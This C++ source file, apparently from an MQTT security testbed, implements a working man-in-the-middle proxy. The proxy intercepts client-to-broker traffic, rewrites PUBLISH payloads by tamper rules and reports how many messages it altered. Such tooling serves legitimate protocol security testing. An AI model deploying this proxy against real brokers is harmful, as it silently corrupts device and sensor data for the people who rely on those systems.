#include "mqttbed/attacks/proxy.hpp"

#include <array>
#include <boost/asio.hpp>
#include <mutex>
#include <thread>
#include <unordered_set>

#include "mqttbed/util/time.hpp"
#include "mqttbed/wire/codec.hpp"

namespace mqttbed::attacks {

namespace asio = boost::asio;
using asio::ip::tcp;

namespace {
constexpr std::size_t kReadChunk = 16384;
constexpr std::size_t kMaxRecords = 100000;
}  // namespace

struct MitmProxy::Impl {
    struct Pair;

    explicit Impl(ProxyConfig c) : config(std::move(c)), acceptor(io) {}

    ProxyConfig config;
    asio::io_context io;
    tcp::acceptor acceptor;
    std::thread thread;
    std::uint16_t bound_port = 0;
    bool started = false;
    std::unordered_set<std::shared_ptr<Pair>> pairs;

    mutable std::mutex mutex;
    ProxyCounters counters;
    std::vector<PublishRecord> records;
    std::string started_at;
    std::chrono::steady_clock::time_point start_time;

    // Rewrites complete frames from `in`, leaving any partial frame behind.
    wire::Bytes process_upstream(wire::Bytes& in, bool& passthrough) {
        wire::Bytes out;
        std::size_t pos = 0;
        std::lock_guard lock(mutex);
        while (!passthrough && pos < in.size()) {
            std::span<const std::uint8_t> rest(in.data() + pos, in.size() - pos);
            std::optional<wire::FrameHeader> frame;
            try {
                frame = wire::peek_frame(rest);
            } catch (const wire::MalformedPacket&) {
                passthrough = true;
                ++counters.malformed_passthrough;
                break;
            }
            if (!frame || frame->total_size() > rest.size()) break;
            auto bytes = rest.first(frame->total_size());
            ++counters.packets_relayed;
            if ((frame->first_byte >> 4) == static_cast<std::uint8_t>(wire::PacketType::Publish)) {
                rewrite(bytes, out);
            } else {
                out.insert(out.end(), bytes.begin(), bytes.end());
            }
            pos += frame->total_size();
        }
        if (passthrough) {
            out.insert(out.end(), in.begin() + static_cast<std::ptrdiff_t>(pos), in.end());
            pos = in.size();
        }
        in.erase(in.begin(), in.begin() + static_cast<std::ptrdiff_t>(pos));
        return out;
    }

    void rewrite(std::span<const std::uint8_t> frame, wire::Bytes& out) {
        std::optional<wire::DecodedPacket> decoded;
        try {
            decoded = wire::decode_packet(frame);
        } catch (const wire::MalformedPacket&) {
            ++counters.malformed_passthrough;
        }
        if (!decoded) {
            out.insert(out.end(), frame.begin(), frame.end());
            return;
        }
        const auto& original = std::get<wire::Publish>(decoded->packet);
        ++counters.publishes;
        PublishRecord record{original.topic, frame.size(), frame.size(), TamperStatus::NotMatched,
                             original.payload, original.payload};
        for (const auto& rule : config.rules) {
            auto result = tamper_rewrite(original, rule);
            if (result.status == TamperStatus::NotMatched) continue;
            record.status = result.status;
            if (result.status == TamperStatus::Tampered) {
                auto encoded = wire::encode_packet(result.packet);
                record.encoded_out = encoded.size();
                record.forwarded_payload = result.packet.payload;
                ++counters.tampered;
                out.insert(out.end(), encoded.begin(), encoded.end());
                if (records.size() < kMaxRecords) records.push_back(std::move(record));
                return;
            }
            if (result.status == TamperStatus::RuleDoesNotFit) ++counters.rule_does_not_fit;
            if (result.status == TamperStatus::NotJson) ++counters.not_json;
            break;
        }
        out.insert(out.end(), frame.begin(), frame.end());
        if (records.size() < kMaxRecords) records.push_back(std::move(record));
    }

    void accept();
};

struct MitmProxy::Impl::Pair : std::enable_shared_from_this<Pair> {
    Pair(Impl& owner, tcp::socket c) : impl(owner), client(std::move(c)), upstream(owner.io) {}

    Impl& impl;
    tcp::socket client;
    tcp::socket upstream;
    std::array<std::uint8_t, kReadChunk> up_buf{};
    std::array<std::uint8_t, kReadChunk> down_buf{};
    wire::Bytes pending_up;
    wire::Bytes writing_up;
    bool passthrough = false;
    int directions_open = 2;
    bool closed = false;

    void start() {
        tcp::endpoint ep(asio::ip::make_address(impl.config.upstream.host), impl.config.upstream.port);
        upstream.async_connect(ep, [self = shared_from_this()](boost::system::error_code ec) {
            if (ec) {
                {
                    std::lock_guard lock(self->impl.mutex);
                    ++self->impl.counters.upstream_failures;
                }
                self->close();
                return;
            }
            boost::system::error_code ignored;
            self->upstream.set_option(tcp::no_delay(true), ignored);
            self->read_client();
            self->read_upstream();
        });
    }

    void read_client() {
        client.async_read_some(asio::buffer(up_buf), [self = shared_from_this()](auto ec, std::size_t n) {
            if (self->closed) return;
            if (ec) {
                self->half_close(self->upstream, ec);
                return;
            }
            {
                std::lock_guard lock(self->impl.mutex);
                self->impl.counters.bytes_up += n;
            }
            self->pending_up.insert(self->pending_up.end(), self->up_buf.begin(),
                                    self->up_buf.begin() + static_cast<std::ptrdiff_t>(n));
            self->writing_up = self->impl.process_upstream(self->pending_up, self->passthrough);
            if (self->writing_up.empty()) {
                self->read_client();
                return;
            }
            asio::async_write(self->upstream, asio::buffer(self->writing_up), [self](auto wec, std::size_t) {
                if (wec) {
                    self->close();
                    return;
                }
                self->read_client();
            });
        });
    }

    void read_upstream() {
        upstream.async_read_some(asio::buffer(down_buf), [self = shared_from_this()](auto ec, std::size_t n) {
            if (self->closed) return;
            if (ec) {
                // Upstream loss closes the victim connection.
                self->close();
                return;
            }
            {
                std::lock_guard lock(self->impl.mutex);
                self->impl.counters.bytes_down += n;
            }
            asio::async_write(self->client, asio::buffer(self->down_buf.data(), n), [self](auto wec, std::size_t) {
                if (wec) {
                    self->close();
                    return;
                }
                self->read_upstream();
            });
        });
    }

    void half_close(tcp::socket& peer, boost::system::error_code ec) {
        if (ec != asio::error::eof) {
            close();
            return;
        }
        boost::system::error_code ignored;
        peer.shutdown(tcp::socket::shutdown_send, ignored);
        if (--directions_open <= 0) close();
    }

    void close() {
        if (closed) return;
        closed = true;
        boost::system::error_code ignored;
        client.close(ignored);
        upstream.close(ignored);
        impl.pairs.erase(shared_from_this());
    }
};

void MitmProxy::Impl::accept() {
    acceptor.async_accept([this](boost::system::error_code ec, tcp::socket socket) {
        if (ec == asio::error::operation_aborted) return;
        if (!ec) {
            boost::system::error_code ignored;
            socket.set_option(tcp::no_delay(true), ignored);
            {
                std::lock_guard lock(mutex);
                ++counters.connections;
            }
            auto pair = std::make_shared<Pair>(*this, std::move(socket));
            pairs.insert(pair);
            pair->start();
        }
        accept();
    });
}

MitmProxy::MitmProxy(ProxyConfig config) : impl_(std::make_unique<Impl>(std::move(config))) {}

MitmProxy::~MitmProxy() { stop(); }

void MitmProxy::start() {
    auto& im = *impl_;
    if (im.started) return;
    tcp::endpoint ep(asio::ip::make_address(im.config.listen.host), im.config.listen.port);
    im.acceptor.open(ep.protocol());
    im.acceptor.set_option(tcp::acceptor::reuse_address(true));
    im.acceptor.bind(ep);
    im.acceptor.listen(asio::socket_base::max_listen_connections);
    im.bound_port = im.acceptor.local_endpoint().port();
    im.started_at = util::iso8601_now();
    im.start_time = std::chrono::steady_clock::now();
    im.accept();
    im.started = true;
    im.thread = std::thread([&im] { im.io.run(); });
}

void MitmProxy::stop() {
    if (!impl_ || !impl_->started) return;
    auto& im = *impl_;
    asio::post(im.io, [&im] {
        boost::system::error_code ignored;
        im.acceptor.close(ignored);
        auto pairs = im.pairs;
        for (auto& p : pairs) p->close();
        im.io.stop();
    });
    if (im.thread.joinable()) im.thread.join();
    im.started = false;
}

std::uint16_t MitmProxy::port() const { return impl_->bound_port; }

void MitmProxy::set_rules(std::vector<TamperRule> rules) {
    std::lock_guard lock(impl_->mutex);
    impl_->config.rules = std::move(rules);
}

ProxyCounters MitmProxy::counters() const {
    std::lock_guard lock(impl_->mutex);
    return impl_->counters;
}

std::vector<PublishRecord> MitmProxy::records() const {
    std::lock_guard lock(impl_->mutex);
    return impl_->records;
}

AttackReport MitmProxy::report() const {
    AttackReport r;
    r.kind = "tamper";
    r.started_at = impl_->started_at;
    r.finished_at = util::iso8601_now();
    r.duration_s = util::seconds_between(impl_->start_time, std::chrono::steady_clock::now());
    auto c = counters();
    r.counters = {{"connections", c.connections},     {"packets_relayed", c.packets_relayed},
                  {"publishes", c.publishes},         {"tampered", c.tampered},
                  {"bytes_up", c.bytes_up},           {"bytes_down", c.bytes_down}};
    r.errors = {{"rule_does_not_fit", c.rule_does_not_fit},
                {"not_json", c.not_json},
                {"malformed_passthrough", c.malformed_passthrough},
                {"upstream_failures", c.upstream_failures}};
    std::size_t length_changed = 0;
    for (const auto& rec : records())
        if (rec.encoded_in != rec.encoded_out) ++length_changed;
    r.details["length_changed"] = length_changed;
    r.outcome = c.tampered > 0 ? "tampered" : "no-match";
    return r;
}

}  // namespace mqttbed::attacks
